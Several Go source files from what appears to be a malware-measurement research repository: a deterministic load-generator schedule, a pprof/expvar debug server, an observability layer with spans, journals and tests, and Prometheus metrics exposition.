	// 1ms + (1/100)*9ms.
	if want := 0.00109 * 1e9; math.Abs(r.P50Ns-want) > 1 {
		t.Fatalf("p50 = %v, want %v", r.P50Ns, want)
	}
	if r.P999Ns != 0.01*1e9 {
		t.Fatalf("p999 (lands in +Inf) = %v, want clamp to 10ms", r.P999Ns)
	}

	bench := serverBenchRows(rows)
	if len(bench) != 1 || bench[0].Name != "LoadServe/server/samples" {
		t.Fatalf("bench rows = %+v", bench)
	}
	if got := bench[0].Metrics["err-rate"]; math.Abs(got-2.0/202) > 1e-12 {
		t.Fatalf("err-rate = %v", got)
	}
	if got := bench[0].Metrics["cache-hit-rate"]; math.Abs(got-180.0/222) > 1e-12 {
		t.Fatalf("cache-hit-rate = %v", got)
	}
}
