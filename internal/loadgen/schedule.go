// Package loadgen is the open-loop HTTP load generator behind
// cmd/malnetbench: a deterministic, zipf-distributed query schedule
// over the malnetd /v1 API, a paced dispatcher that measures latency
// from each request's *scheduled* start (so queueing delay under
// overload is charged to the server, not silently absorbed — the
// coordinated-omission correction), and a machine-readable summary
// whose rows merge into BENCH_<date>.json via tools/benchjson.
//
// The schedule is a pure function of the seed: same seed, same
// sequence of queries, byte for byte. C2 point queries carry a zipf
// *rank* rather than an address — the runner resolves ranks against
// the live daemon's /v1/c2 index at startup, so the schedule stays
// deterministic while the addresses track whatever snapshot the
// daemon is serving.
//
// Unlike the rest of ./internal, this package reads the wall clock —
// measuring a live daemon is its whole job. tools/vettime allows it
// alongside obs and realprobe.
package loadgen

import (
	"fmt"
	"math/rand"
	"net/url"
)

// Query is one scheduled request. Endpoint is the latency bucket the
// request reports into; Path is the URL path+query as issued (for C2
// point lookups, a "{rank-N}" placeholder the runner resolves against
// the live C2 index). C2Rank is that rank, -1 for every other
// endpoint.
type Query struct {
	Endpoint string `json:"endpoint"`
	Path     string `json:"path"`
	C2Rank   int    `json:"c2_rank"`
}

// canonicalFamilies is the schedule's family vocabulary, zipf-ranked:
// rank 0 (mirai) dominates, as it does in the paper's feed. Families
// absent from the served snapshot cost the daemon an index miss and
// return an empty 200 — still a legitimate load shape.
var canonicalFamilies = []string{
	"mirai", "gafgyt", "tsunami", "hajime", "xorddos",
	"mozi", "dofloo", "pnscan", "hiddenwasp", "vpnfilter",
}

// c2RankSpace is how many distinct C2 ranks the schedule draws from;
// the runner folds ranks into the live index size with a modulus.
const c2RankSpace = 512

// studyDays is the day-filter range (a year-long study).
const studyDays = 365

// Schedule generates the deterministic query sequence. Not safe for
// concurrent use — the runner's single dispatcher goroutine owns it.
type Schedule struct {
	rng      *rand.Rand
	famZipf  *rand.Zipf
	dayZipf  *rand.Zipf
	c2Zipf   *rand.Zipf
	limZipf  *rand.Zipf
	pageLims [4]int
}

// NewSchedule returns the schedule for seed. Two instances with the
// same seed emit identical sequences.
func NewSchedule(seed int64) *Schedule {
	rng := rand.New(rand.NewSource(seed))
	return &Schedule{
		rng: rng,
		// s=1.2 keeps a heavy head without starving the tail: the
		// hot families/days dominate (cache-friendly), but cold keys
		// keep arriving (cache-hostile), which is the mix that makes
		// a response cache worth stampede-protecting.
		famZipf:  rand.NewZipf(rng, 1.2, 1, uint64(len(canonicalFamilies)-1)),
		dayZipf:  rand.NewZipf(rng, 1.2, 1, studyDays-1),
		c2Zipf:   rand.NewZipf(rng, 1.2, 1, c2RankSpace-1),
		limZipf:  rand.NewZipf(rng, 1.6, 1, 3),
		pageLims: [4]int{100, 50, 250, 500},
	}
}

// Next emits the next scheduled query.
func (s *Schedule) Next() Query {
	switch roll := s.rng.Intn(100); {
	case roll < 50:
		return s.samplesQuery()
	case roll < 68:
		rank := int(s.c2Zipf.Uint64())
		return Query{Endpoint: "c2_point", Path: fmt.Sprintf("/v1/c2/{rank-%d}", rank), C2Rank: rank}
	case roll < 76:
		return Query{Endpoint: "c2_index", Path: fmt.Sprintf("/v1/c2?limit=%d", s.limit()), C2Rank: -1}
	case roll < 84:
		return Query{Endpoint: "attacks", Path: fmt.Sprintf("/v1/attacks?limit=%d", s.limit()), C2Rank: -1}
	case roll < 94:
		return s.queryQuery()
	case roll < 97:
		return Query{Endpoint: "headline", Path: "/v1/headline", C2Rank: -1}
	default:
		return Query{Endpoint: "metrics", Path: "/v1/metrics", C2Rank: -1}
	}
}

// queryQuery draws a /v1/query expression: grouped aggregations over
// a zipf-hot family (the dashboard refresh shape, cache-friendly) in
// the head, filtered day-window scans in the body, and a topk over
// the whole store in the tail. The expression is URL-escaped into the
// q parameter by hand — the vocabulary is ASCII, so %-escaping quotes
// and spaces is all it takes, and the schedule stays readable.
func (s *Schedule) queryQuery() Query {
	family := canonicalFamilies[s.famZipf.Uint64()]
	day := int(s.dayZipf.Uint64())
	var expr string
	switch roll := s.rng.Intn(100); {
	case roll < 40:
		expr = fmt.Sprintf("family==%q | count() by c2", family)
	case roll < 65:
		expr = fmt.Sprintf("family==%q and day in %d..%d | count() by attack", family, day, day+30)
	case roll < 85:
		expr = fmt.Sprintf("day in %d..%d | sum(detections) by family", day, day+7)
	default:
		expr = "| topk(10) by c2"
	}
	return Query{Endpoint: "query", Path: "/v1/query?q=" + url.QueryEscape(expr), C2Rank: -1}
}

// samplesQuery draws the /v1/samples filter shape: family-only is the
// head, family+day and day-only the body, a full unfiltered page the
// tail.
func (s *Schedule) samplesQuery() Query {
	family := canonicalFamilies[s.famZipf.Uint64()]
	day := int(s.dayZipf.Uint64())
	lim := s.limit()
	var path string
	switch roll := s.rng.Intn(100); {
	case roll < 40:
		path = fmt.Sprintf("/v1/samples?family=%s&limit=%d", family, lim)
	case roll < 70:
		path = fmt.Sprintf("/v1/samples?family=%s&day=%d&limit=%d", family, day, lim)
	case roll < 85:
		path = fmt.Sprintf("/v1/samples?day=%d&limit=%d", day, lim)
	default:
		path = fmt.Sprintf("/v1/samples?limit=%d", lim)
	}
	return Query{Endpoint: "samples", Path: path, C2Rank: -1}
}

// limit draws a page size, zipf-biased toward the default-ish 100.
func (s *Schedule) limit() int { return s.pageLims[s.limZipf.Uint64()] }
