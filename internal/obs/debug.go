package obs

import (
	"encoding/json"
	"expvar"
	"net"
	"net/http"
	"net/http/pprof"
)

// ServeDebug starts an HTTP debug server on addr exposing
// /debug/pprof/* (live CPU/heap/goroutine profiling), /debug/vars
// (expvar, including any published Wall), and /debug/wall (the wall
// profile alone as JSON). Optional mount hooks run against the debug
// mux before the server starts — that is how the serving red plane
// adds /metrics and /debug/slowlog without this package importing it.
// It returns the server and the bound address (useful with ":0").
// The server runs until Close; it only reads the wall-clock plane,
// so serving it during a study cannot perturb deterministic outputs.
func ServeDebug(addr string, wall *Wall, mounts ...func(mux *http.ServeMux)) (*http.Server, string, error) {
	ln, err := net.Listen("tcp", addr)
	if err != nil {
		return nil, "", err
	}
	mux := http.NewServeMux()
	for _, mount := range mounts {
		mount(mux)
	}
	mux.HandleFunc("/debug/pprof/", pprof.Index)
	mux.HandleFunc("/debug/pprof/cmdline", pprof.Cmdline)
	mux.HandleFunc("/debug/pprof/profile", pprof.Profile)
	mux.HandleFunc("/debug/pprof/symbol", pprof.Symbol)
	mux.HandleFunc("/debug/pprof/trace", pprof.Trace)
	mux.Handle("/debug/vars", expvar.Handler())
	mux.HandleFunc("/debug/wall", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(wall.Snapshot())
	})
	srv := &http.Server{Handler: mux}
	go srv.Serve(ln)
	return srv, ln.Addr().String(), nil
}
