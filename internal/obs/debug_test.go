package obs

import (
	"io"
	"net/http"
	"strings"
	"testing"
	"time"
)

func TestServeDebug(t *testing.T) {
	wall := NewWall()
	wall.Add("stage.static", 3*time.Millisecond)
	wall.SetGauge("executor.queue_depth", func() int64 { return 5 })
	wall.PublishExpvar("malnet_test_wall")

	srv, addr, err := ServeDebug("127.0.0.1:0", wall)
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	get := func(path string) string {
		resp, err := http.Get("http://" + addr + path)
		if err != nil {
			t.Fatalf("GET %s: %v", path, err)
		}
		defer resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("GET %s: status %d", path, resp.StatusCode)
		}
		b, _ := io.ReadAll(resp.Body)
		return string(b)
	}

	if body := get("/debug/wall"); !strings.Contains(body, "stage.static") ||
		!strings.Contains(body, "executor.queue_depth") {
		t.Fatalf("/debug/wall missing profile:\n%s", body)
	}
	if body := get("/debug/vars"); !strings.Contains(body, "malnet_test_wall") {
		t.Fatalf("/debug/vars missing published wall:\n%s", body)
	}
	if body := get("/debug/pprof/"); !strings.Contains(body, "goroutine") {
		t.Fatalf("/debug/pprof/ index unexpected:\n%s", body)
	}
}
