package obs

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"time"
)

// Journal writes the run's trace as JSONL: one span or event per
// line, span IDs assigned sequentially at emission time. Because the
// study emits sample span trees in feed order (and drains world
// events on the single merge goroutine), the journal bytes are
// deterministic at any worker count. A nil Journal absorbs emissions.
type Journal struct {
	w      *bufio.Writer
	sink   io.Writer
	nextID int64
	bytes  int64
	err    error
}

// NewJournal returns a Journal buffering writes to w.
func NewJournal(w io.Writer) *Journal {
	return &Journal{w: bufio.NewWriter(w), sink: w}
}

type journalLine struct {
	T      string         `json:"t"`
	ID     int64          `json:"id,omitempty"`
	Parent int64          `json:"parent,omitempty"`
	Name   string         `json:"name"`
	Start  string         `json:"start,omitempty"`
	End    string         `json:"end,omitempty"`
	At     string         `json:"at,omitempty"`
	Attrs  map[string]any `json:"attrs,omitempty"`
}

func attrMap(attrs []Attr) map[string]any {
	if len(attrs) == 0 {
		return nil
	}
	m := make(map[string]any, len(attrs))
	for _, a := range attrs {
		m[a.Key] = a.Value // encoding/json sorts map keys: stable bytes
	}
	return m
}

func stamp(t time.Time) string { return t.UTC().Format(time.RFC3339Nano) }

// EmitSpan writes s and, recursively, its children under fresh IDs.
// parent is the enclosing span's ID (0 for a root). It returns s's
// assigned ID (0 when the journal or span is nil).
func (j *Journal) EmitSpan(parent int64, s *Span) int64 {
	if j == nil || s == nil {
		return 0
	}
	j.nextID++
	id := j.nextID
	end := s.End
	if end.IsZero() {
		end = s.Start
	}
	j.write(journalLine{
		T: "span", ID: id, Parent: parent, Name: s.Name,
		Start: stamp(s.Start), End: stamp(end), Attrs: attrMap(s.Attrs),
	})
	for _, c := range s.Children {
		j.EmitSpan(id, c)
	}
	return id
}

// EmitEvent writes e with parent as its enclosing span ID (0 for
// none).
func (j *Journal) EmitEvent(parent int64, e *Event) {
	if j == nil || e == nil {
		return
	}
	j.write(journalLine{
		T: "event", Parent: parent, Name: e.Name,
		At: stamp(e.At), Attrs: attrMap(e.Attrs),
	})
}

func (j *Journal) write(line journalLine) {
	if j.err != nil {
		return
	}
	b, err := json.Marshal(line)
	if err != nil {
		j.err = err
		return
	}
	if _, err := j.w.Write(append(b, '\n')); err != nil {
		j.err = err
		return
	}
	j.bytes += int64(len(b)) + 1
}

// Cursor returns the journal's emission position: the last span ID
// assigned and the byte length of everything emitted so far. The
// study checkpoints the cursor (after a Flush) so a resumed run can
// Rewind the journal to exactly the state the snapshot saw.
func (j *Journal) Cursor() (nextID, bytes int64) {
	if j == nil {
		return 0, 0
	}
	return j.nextID, j.bytes
}

// rewindable is what Rewind needs from the sink: *os.File satisfies
// it; an in-memory buffer does not, which is deliberate — resuming a
// run only makes sense against a durable trace file.
type rewindable interface {
	Truncate(size int64) error
	Seek(offset int64, whence int) (int64, error)
}

// Rewind truncates the journal's sink to a checkpointed cursor and
// restores the ID sequence, so emissions after a resume continue the
// trace exactly where the snapshot left it (lines written after the
// snapshot — by the killed run — are discarded). The sink must be
// seekable and truncatable, i.e. a real file.
func (j *Journal) Rewind(nextID, bytes int64) error {
	if j == nil {
		return nil
	}
	f, ok := j.sink.(rewindable)
	if !ok {
		return fmt.Errorf("obs: journal sink %T cannot rewind (need a file)", j.sink)
	}
	if err := f.Truncate(bytes); err != nil {
		return err
	}
	if _, err := f.Seek(bytes, io.SeekStart); err != nil {
		return err
	}
	j.w = bufio.NewWriter(j.sink)
	j.nextID = nextID
	j.bytes = bytes
	j.err = nil
	return nil
}

// Flush drains the buffer and returns the first error seen on any
// emission or flush.
func (j *Journal) Flush() error {
	if j == nil {
		return nil
	}
	if err := j.w.Flush(); err != nil && j.err == nil {
		j.err = err
	}
	return j.err
}
