// Package obs is the deterministic observability layer of the MalNet
// reproduction. It splits telemetry into two strictly separated
// planes:
//
//   - The deterministic plane — counters, gauges, fixed-bucket
//     histograms (Registry), virtual-time trace spans and events
//     (Span, Event, Recorder) and the JSONL run journal (Journal).
//     Everything here is a pure function of (seed, feed): metric
//     snapshots and journals are byte-identical at any worker count.
//     Like simclock, these types are single-goroutine-owned and
//     unsynchronized; ownership moves between goroutines only across
//     happens-before edges (the executor's dispatch barriers).
//
//   - The wall-clock plane — per-stage wall timings and live gauges
//     (Wall), published via expvar and served with net/http/pprof by
//     ServeDebug. This plane is mutex-protected, nondeterministic by
//     nature (queue depth, busy time, samples/sec), and never feeds
//     back into the deterministic snapshot.
//
// Every type is nil-receiver safe so instrumented code needs no
// conditionals: a nil *Counter, *Gauge, *Histogram, *Span, *Event,
// *Recorder, *Journal or *Wall absorbs writes as no-ops.
package obs

import (
	"io"
	"time"
)

// Observer bundles the three telemetry sinks a study run uses: the
// deterministic root recorder (merged per-sample registries + study
// totals), the wall-clock profile, and an optional trace journal.
type Observer struct {
	Root    *Recorder
	Wall    *Wall
	Journal *Journal
}

// NewObserver returns an Observer with a fresh root recorder and
// wall profile and no journal (spans and events are then dropped at
// the source, costing nothing).
func NewObserver() *Observer {
	return &Observer{Root: NewRecorder(), Wall: NewWall()}
}

// SetJournal directs the run journal at w and arms event recording
// on the root recorder. Callers own w's lifetime; Flush before
// closing it.
func (o *Observer) SetJournal(w io.Writer) {
	o.Journal = NewJournal(w)
	o.Root.EnableEvents(true)
}

// Flush flushes the journal, if any.
func (o *Observer) Flush() error {
	if o == nil {
		return nil
	}
	return o.Journal.Flush()
}

// Now is the blessed wall-clock read for instrumented packages.
// Deterministic pipeline code must not call time.Now directly
// (tools/vettime enforces this); routing the reads through obs keeps
// the exception list to one package and makes wall-time usage
// greppable.
func Now() time.Time { return time.Now() }
