package obs

import (
	"strings"
	"sync"
	"testing"
	"time"
)

func at(h int) time.Time { return time.Date(2021, 5, 20, h, 0, 0, 0, time.UTC) }

func TestCounterGaugeHistogram(t *testing.T) {
	r := NewRegistry()
	c := r.Counter("x")
	c.Inc()
	c.Add(4)
	if got := r.ReadCounter("x"); got != 5 {
		t.Fatalf("counter = %d, want 5", got)
	}
	if r.Counter("x") != c {
		t.Fatal("Counter not idempotent")
	}
	r.Gauge("g").Set(7)
	if got := r.ReadGauge("g"); got != 7 {
		t.Fatalf("gauge = %d, want 7", got)
	}
	h := r.Histogram("h", []int64{10, 100})
	h.Observe(3)
	h.Observe(10) // inclusive upper bound
	h.Observe(50)
	h.Observe(1000)
	if n, sum := r.ReadHistogram("h"); n != 4 || sum != 1063 {
		t.Fatalf("histogram count=%d sum=%d, want 4/1063", n, sum)
	}
	snap := r.Snapshot()
	if !strings.Contains(snap, "histogram h count=4 sum=1063 le10=2 le100=1 inf=1") {
		t.Fatalf("snapshot buckets wrong:\n%s", snap)
	}
}

func TestNilSafety(t *testing.T) {
	var (
		c *Counter
		g *Gauge
		h *Histogram
		s *Span
		e *Event
		r *Recorder
		j *Journal
		w *Wall
	)
	c.Add(1)
	g.Set(1)
	h.Observe(1)
	s.SetAttr("k", 1)
	s.Finish(at(0))
	if s.Child("x", at(0)) != nil {
		t.Fatal("nil span Child != nil")
	}
	e.SetAttr("k", 1)
	r.Counter("x").Inc()
	r.EnableEvents(true)
	if r.Event("x", at(0)) != nil {
		t.Fatal("nil recorder Event != nil")
	}
	r.Merge(NewRecorder())
	if j.EmitSpan(0, NewSpan("x", at(0))) != 0 {
		t.Fatal("nil journal EmitSpan != 0")
	}
	j.EmitEvent(0, &Event{})
	if err := j.Flush(); err != nil {
		t.Fatal(err)
	}
	w.Timer("x")()
	w.Add("x", time.Second)
	w.SetGauge("x", func() int64 { return 0 })
	if w.Snapshot() != nil {
		t.Fatal("nil wall Snapshot != nil")
	}
	var reg *Registry
	if reg.Counter("x") != nil || reg.ReadCounter("x") != 0 || reg.Snapshot() != "" {
		t.Fatal("nil registry not inert")
	}
	reg.Merge(NewRegistry())
}

func TestMergeCommutativeAndPrefixed(t *testing.T) {
	mk := func() (*Registry, *Registry) {
		a, b := NewRegistry(), NewRegistry()
		a.Counter("c").Add(2)
		b.Counter("c").Add(3)
		a.Histogram("h", []int64{5}).Observe(1)
		b.Histogram("h", []int64{5}).Observe(9)
		b.Gauge("g").Set(4)
		return a, b
	}
	a1, b1 := mk()
	root1 := NewRegistry()
	root1.Merge(a1)
	root1.Merge(b1)
	a2, b2 := mk()
	root2 := NewRegistry()
	root2.Merge(b2)
	root2.Merge(a2)
	if root1.Snapshot() != root2.Snapshot() {
		t.Fatalf("merge not commutative:\n%s\nvs\n%s", root1.Snapshot(), root2.Snapshot())
	}
	if root1.ReadCounter("c") != 5 || root1.ReadGauge("g") != 4 {
		t.Fatalf("merge totals wrong:\n%s", root1.Snapshot())
	}

	pre := NewRegistry()
	pre.MergePrefixed("world.", a1)
	if pre.ReadCounter("world.c") != 2 || pre.ReadCounter("c") != 0 {
		t.Fatalf("prefixed merge wrong:\n%s", pre.Snapshot())
	}
}

func TestRecorderEvents(t *testing.T) {
	r := NewRecorder()
	if ev := r.Event("fault", at(1)); ev != nil {
		t.Fatal("event recorded while disabled")
	}
	r.EnableEvents(true)
	ev := r.Event("fault", at(1))
	ev.SetAttr("src", "10.0.0.1")
	if evs := r.DrainEvents(); len(evs) != 1 || evs[0].Name != "fault" {
		t.Fatalf("drained %v", evs)
	}
	if evs := r.DrainEvents(); len(evs) != 0 {
		t.Fatal("drain not clearing")
	}
}

func TestJournalBytes(t *testing.T) {
	var b strings.Builder
	j := NewJournal(&b)
	sp := NewSpan("sample", at(0))
	sp.SetAttr("sha", "abc")
	st := sp.Child("stage.isolated", at(0))
	st.SetAttr("events", 12)
	st.Finish(at(1))
	sp.Finish(at(2))
	id := j.EmitSpan(0, sp)
	j.EmitEvent(id, &Event{Name: "fault.reset", At: at(1), Attrs: []Attr{{"dst", "x"}}})
	if err := j.Flush(); err != nil {
		t.Fatal(err)
	}
	want := `{"t":"span","id":1,"name":"sample","start":"2021-05-20T00:00:00Z","end":"2021-05-20T02:00:00Z","attrs":{"sha":"abc"}}
{"t":"span","id":2,"parent":1,"name":"stage.isolated","start":"2021-05-20T00:00:00Z","end":"2021-05-20T01:00:00Z","attrs":{"events":12}}
{"t":"event","parent":1,"name":"fault.reset","at":"2021-05-20T01:00:00Z","attrs":{"dst":"x"}}
`
	if b.String() != want {
		t.Fatalf("journal bytes:\n%s\nwant:\n%s", b.String(), want)
	}
}

func TestWallConcurrent(t *testing.T) {
	w := NewWall()
	var wg sync.WaitGroup
	for i := 0; i < 8; i++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for k := 0; k < 100; k++ {
				stop := w.Timer("busy")
				stop()
				w.Add("merge", time.Microsecond)
			}
		}()
	}
	wg.Wait()
	w.SetGauge("depth", func() int64 { return 42 })
	w.SetCounter("served", func() int64 { return 800 })
	snap := w.Snapshot()
	stages := snap["stages"].(map[string]any)
	if stages["busy"].(map[string]int64)["count"] != 800 {
		t.Fatalf("busy count: %v", stages)
	}
	if snap["gauges"].(map[string]int64)["depth"] != 42 {
		t.Fatalf("gauge: %v", snap)
	}
	if snap["counters"].(map[string]int64)["served"] != 800 {
		t.Fatalf("counter: %v", snap)
	}
}

func TestHistogramBucketAccessors(t *testing.T) {
	h := NewHistogram([]int64{10, 100})
	h.Observe(5)
	h.Observe(50)
	h.Observe(500)
	if got := h.Bounds(); len(got) != 2 || got[0] != 10 || got[1] != 100 {
		t.Fatalf("bounds = %v", got)
	}
	if got := h.BucketCounts(); len(got) != 3 || got[0] != 1 || got[1] != 1 || got[2] != 1 {
		t.Fatalf("bucket counts = %v", got)
	}
	var nilH *Histogram
	if nilH.Bounds() != nil || nilH.BucketCounts() != nil {
		t.Fatal("nil histogram exposes buckets")
	}
}
