package obs

import "time"

// Attr is one key/value annotation on a span or event. Attrs keep
// insertion order in memory; the journal serializes them in sorted
// key order so output is deterministic regardless.
type Attr struct {
	Key   string
	Value any
}

// Span is one virtual-time interval in the run's trace: begin/end
// are simclock timestamps, never wall time. Spans form a hierarchy
// (sample → stage → probe) and are emitted to the journal when the
// sample merges, in feed order.
type Span struct {
	Name     string
	Start    time.Time
	End      time.Time
	Attrs    []Attr
	Children []*Span
}

// NewSpan starts a root span at the given virtual time.
func NewSpan(name string, start time.Time) *Span {
	return &Span{Name: name, Start: start}
}

// Child starts a sub-span. A nil parent returns nil, so span trees
// vanish wholesale when tracing is off.
func (s *Span) Child(name string, start time.Time) *Span {
	if s == nil {
		return nil
	}
	c := &Span{Name: name, Start: start}
	s.Children = append(s.Children, c)
	return c
}

// SetAttr annotates the span.
func (s *Span) SetAttr(key string, value any) {
	if s != nil {
		s.Attrs = append(s.Attrs, Attr{key, value})
	}
}

// Finish stamps the span's end time.
func (s *Span) Finish(end time.Time) {
	if s != nil {
		s.End = end
	}
}

// Event is one instantaneous virtual-time occurrence (e.g. a fault
// injection), recorded outside any span.
type Event struct {
	Name  string
	At    time.Time
	Attrs []Attr
}

// SetAttr annotates the event.
func (e *Event) SetAttr(key string, value any) {
	if e != nil {
		e.Attrs = append(e.Attrs, Attr{key, value})
	}
}

// Recorder couples a metrics registry with an ordered event buffer.
// Events are only retained when enabled (the study arms them iff a
// journal is configured), so un-journaled runs never accumulate
// event memory. Recorders are single-goroutine-owned, like
// registries; the executor hands per-sample recorders across its
// dispatch barriers.
type Recorder struct {
	reg      *Registry
	events   []*Event
	eventsOn bool
}

// NewRecorder returns a Recorder with a fresh registry and events
// disabled.
func NewRecorder() *Recorder {
	return &Recorder{reg: NewRegistry()}
}

// Registry exposes the underlying metrics registry (nil for a nil
// Recorder, which is itself safe to read and merge).
func (r *Recorder) Registry() *Registry {
	if r == nil {
		return nil
	}
	return r.reg
}

// Counter is shorthand for Registry().Counter.
func (r *Recorder) Counter(name string) *Counter { return r.Registry().Counter(name) }

// Gauge is shorthand for Registry().Gauge.
func (r *Recorder) Gauge(name string) *Gauge { return r.Registry().Gauge(name) }

// Histogram is shorthand for Registry().Histogram.
func (r *Recorder) Histogram(name string, bounds []int64) *Histogram {
	return r.Registry().Histogram(name, bounds)
}

// EnableEvents turns event retention on or off.
func (r *Recorder) EnableEvents(on bool) {
	if r != nil {
		r.eventsOn = on
	}
}

// EventsEnabled reports whether events are being retained.
func (r *Recorder) EventsEnabled() bool { return r != nil && r.eventsOn }

// Event records an instantaneous occurrence at virtual time at and
// returns it for annotation. Returns nil (a no-op sink) when the
// recorder is nil or events are disabled.
func (r *Recorder) Event(name string, at time.Time) *Event {
	if r == nil || !r.eventsOn {
		return nil
	}
	e := &Event{Name: name, At: at}
	r.events = append(r.events, e)
	return e
}

// DrainEvents returns the buffered events in record order and clears
// the buffer.
func (r *Recorder) DrainEvents() []*Event {
	if r == nil {
		return nil
	}
	evs := r.events
	r.events = nil
	return evs
}

// Merge folds other's registry into r's. Events are not merged —
// they are drained to the journal by whoever owns the feed order.
func (r *Recorder) Merge(other *Recorder) {
	r.Registry().Merge(other.Registry())
}
