package redplane

import (
	"fmt"
	"io"
	"net/http"
	"sort"
	"strconv"
	"strings"
)

// WritePrometheus renders the plane's RED metrics in Prometheus text
// exposition format (version 0.0.4): # HELP / # TYPE headers, then
// one sample per line, endpoints and label values in sorted order so
// identical states render byte-identically. Durations are exposed in
// seconds (the Prometheus base unit); the underlying histograms count
// nanoseconds, converted at the edge.
func (p *Plane) WritePrometheus(w io.Writer) error {
	if p == nil {
		return nil
	}
	eps, gens, swaps := p.snapshot()
	pre := p.prefix
	var b strings.Builder

	fmt.Fprintf(&b, "# HELP %s_requests_total Requests served, by endpoint and status class.\n", pre)
	fmt.Fprintf(&b, "# TYPE %s_requests_total counter\n", pre)
	for _, ep := range eps {
		for _, class := range sortedKeys(ep.byClass) {
			fmt.Fprintf(&b, "%s_requests_total{endpoint=%q,code=%q} %d\n", pre, ep.endpoint, class, ep.byClass[class])
		}
	}

	fmt.Fprintf(&b, "# HELP %s_request_duration_seconds Request latency, by endpoint.\n", pre)
	fmt.Fprintf(&b, "# TYPE %s_request_duration_seconds histogram\n", pre)
	for _, ep := range eps {
		cum := int64(0)
		for i, bound := range ep.bounds {
			cum += ep.buckets[i]
			fmt.Fprintf(&b, "%s_request_duration_seconds_bucket{endpoint=%q,le=%q} %d\n",
				pre, ep.endpoint, secs(bound), cum)
		}
		fmt.Fprintf(&b, "%s_request_duration_seconds_bucket{endpoint=%q,le=\"+Inf\"} %d\n", pre, ep.endpoint, ep.count)
		fmt.Fprintf(&b, "%s_request_duration_seconds_sum{endpoint=%q} %s\n", pre, ep.endpoint, secs(ep.sum))
		fmt.Fprintf(&b, "%s_request_duration_seconds_count{endpoint=%q} %d\n", pre, ep.endpoint, ep.count)
	}

	fmt.Fprintf(&b, "# HELP %s_cache_outcomes_total Response-cache outcomes, by endpoint.\n", pre)
	fmt.Fprintf(&b, "# TYPE %s_cache_outcomes_total counter\n", pre)
	for _, ep := range eps {
		for _, outcome := range sortedKeys(ep.cache) {
			fmt.Fprintf(&b, "%s_cache_outcomes_total{endpoint=%q,outcome=%q} %d\n", pre, ep.endpoint, outcome, ep.cache[outcome])
		}
	}

	fmt.Fprintf(&b, "# HELP %s_rows_scanned_total Store rows touched computing responses, by endpoint.\n", pre)
	fmt.Fprintf(&b, "# TYPE %s_rows_scanned_total counter\n", pre)
	for _, ep := range eps {
		fmt.Fprintf(&b, "%s_rows_scanned_total{endpoint=%q} %d\n", pre, ep.endpoint, ep.rows)
	}

	fmt.Fprintf(&b, "# HELP %s_response_bytes_total Response body bytes written, by endpoint.\n", pre)
	fmt.Fprintf(&b, "# TYPE %s_response_bytes_total counter\n", pre)
	for _, ep := range eps {
		fmt.Fprintf(&b, "%s_response_bytes_total{endpoint=%q} %d\n", pre, ep.endpoint, ep.bytes)
	}

	fmt.Fprintf(&b, "# HELP %s_generation_requests_total Requests answered per store generation (last %d generations retained).\n", pre, maxGenerations)
	fmt.Fprintf(&b, "# TYPE %s_generation_requests_total counter\n", pre)
	for _, g := range gens {
		// The run label appears only in lake mode; directory-mode
		// exposition is byte-identical to what it was before runs
		// existed, so dashboards keyed on the bare generation keep
		// matching.
		if g.run == "" {
			fmt.Fprintf(&b, "%s_generation_requests_total{generation=%q} %d\n", pre, g.gen, g.n)
		} else {
			fmt.Fprintf(&b, "%s_generation_requests_total{generation=%q,run=%q} %d\n", pre, g.gen, g.run, g.n)
		}
	}

	fmt.Fprintf(&b, "# HELP %s_store_swaps_total Hot swaps of the serving store.\n", pre)
	fmt.Fprintf(&b, "# TYPE %s_store_swaps_total counter\n", pre)
	fmt.Fprintf(&b, "%s_store_swaps_total %d\n", pre, swaps)

	_, err := io.WriteString(w, b.String())
	return err
}

// secs renders a nanosecond count as a decimal seconds string without
// exponent notation ('f' format), the shape Prometheus bucket bounds
// conventionally take.
func secs(ns int64) string {
	return strconv.FormatFloat(float64(ns)/1e9, 'f', -1, 64)
}

func sortedKeys(m map[string]int64) []string {
	out := make([]string, 0, len(m))
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// Mount registers the plane's HTTP surface on a debug mux: /metrics
// (Prometheus text exposition) and /debug/slowlog (the slow-query
// ring as JSON). Pass it to obs.ServeDebug.
func (p *Plane) Mount(mux *http.ServeMux) {
	if p == nil {
		return
	}
	mux.HandleFunc("GET /metrics", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		p.WritePrometheus(w)
	})
	mux.HandleFunc("GET /debug/slowlog", func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		p.slow.writeJSON(w)
	})
}
