// Package redplane is the serving-plane half of the repo's wall-clock
// observability: per-endpoint RED metrics (request Rate, Error-class
// counts, Duration histograms), per-request spans with per-stage
// timings, a JSONL access log, and a ring-buffered slow-query log.
//
// Where internal/obs's deterministic plane is a pure function of the
// study inputs, the red plane exists precisely to measure the
// nondeterministic world: a live malnetd answering concurrent HTTP
// traffic. It is mutex-protected, wall-clock-driven, and never feeds
// anything back into deterministic outputs. It is also the only
// blessed wall-clock reader on the serving path — tools/vettime bans
// `time` from internal/serve outright, so every latency measurement
// there must arrive through a Span.
//
// Metrics are exposed in Prometheus text exposition format (see
// prom.go) on the debug listener at /metrics; the slow-query ring is
// served as JSON at /debug/slowlog. Like the rest of internal/obs,
// every type is nil-receiver safe: a nil *Plane or *Span absorbs all
// calls, so instrumented code needs no conditionals and a daemon
// without the plane armed pays one nil check per touch.
package redplane

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"malnet/internal/obs"
)

// LatencyBounds are the fixed request-duration bucket bounds in
// nanoseconds: 50µs to 5s in a 1-2.5-5 ladder, wide enough to place
// both a warm cache hit and a pathological cold aggregation. Fixed
// bounds (the obs.Histogram discipline) keep scrape deltas mergeable:
// two scrapes subtract bucket-by-bucket, which is what lets
// malnetbench derive percentiles for exactly its own burst.
var LatencyBounds = []int64{
	50_000, 100_000, 250_000, 500_000,
	1_000_000, 2_500_000, 5_000_000, 10_000_000,
	25_000_000, 50_000_000, 100_000_000, 250_000_000,
	500_000_000, 1_000_000_000, 2_500_000_000, 5_000_000_000,
}

